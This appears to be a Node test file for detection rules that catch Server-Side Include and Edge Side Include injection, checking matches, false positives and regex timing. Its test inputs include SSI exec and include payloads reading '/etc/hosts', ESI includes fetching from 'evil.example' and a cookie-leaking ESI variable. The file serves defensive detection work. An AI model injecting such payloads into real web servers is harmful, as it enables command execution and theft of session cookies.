import { test } from 'node:test';
import assert from 'node:assert/strict';
import { rules } from './ssi.ts';
import { matchAll, timeAll, ruleMetaProblems } from './lib/testing.ts';

test('rule metadata is well formed', () => {
  assert.deepEqual(ruleMetaProblems(rules), []);
});

test('detects SSI directives and ESI tags', () => {
  const attacks = [
    '<!--#exec cmd="ls" -->',
    '<!--#include virtual="/etc/hosts" -->',
    '<!--# echo var="DATE_LOCAL" -->',
    '&lt;!--#printenv --&gt;',
    '%3C!--%23config%20timefmt%3D%22%25Y%22--%3E',
    '<esi:include src="http://evil.example/"/>',
    '<esi:vars>$(HTTP_COOKIE)</esi:vars>',
    '</esi:try>',
  ];
  for (const a of attacks) assert.ok(matchAll(rules, a).length > 0, `missed ${a}`);
});

test('does not flag HTML comments or prose', () => {
  const benign = ['<!-- note: #1 priority -->', '<!--#hashtag-->', 'esi: an acronym', 'Tesi: la mia tesi', '<!---->'];
  for (const b of benign) assert.deepEqual(matchAll(rules, b), [], `false positive on ${b}`);
});

test('linear time on 64 KiB pathological input', () => {
  const inputs = ['<!--'.repeat(16384), '<!--#'.repeat(13107), 'esi:'.repeat(16384), '<esi:'.repeat(13107)];
  for (const s of inputs) {
    const ms = timeAll(rules, s);
    assert.ok(ms < 2000, `took ${ms} ms`);
  }
});

test('detects JS-escaped directives and ESI variable references', () => {
  assert.deepEqual(matchAll(rules, '\\u003c!--#exec cmd="id"--\\u003e', 'json'), ['935100']);
  assert.deepEqual(matchAll(rules, '\\u003cesi:include src="http://evil.example/"/\\u003e', 'json'), ['935110']);
  for (const a of ["$(HTTP_COOKIE{'session'})", '$(QUERY_STRING)', 'x $(HTTP_USER_AGENT) y', '%24%28HTTP_HOST%29']) assert.deepEqual(matchAll(rules, a), ['935120'], a);
});

test('does not flag jQuery, Makefile variables or shell substitutions', () => {
  const benign = ['$(document).ready()', '$(HTTP_PROXY)', '$(CC) -o out', 'echo $(date)', 'http_cookie is a header', '$(http_cookie_name'];
  for (const b of benign) assert.deepEqual(matchAll(rules, b), [], `false positive on ${b}`);
});

test('linear time on 64 KiB pathological input (ESI variables, escaped forms)', () => {
  const inputs = ['$('.repeat(32768), '$(http_'.repeat(9362), '\\u003c!--#'.repeat(6553)];
  for (const s of inputs) {
    const ms = timeAll(rules, s);
    assert.ok(ms < 2000, `took ${ms} ms`);
  }
});
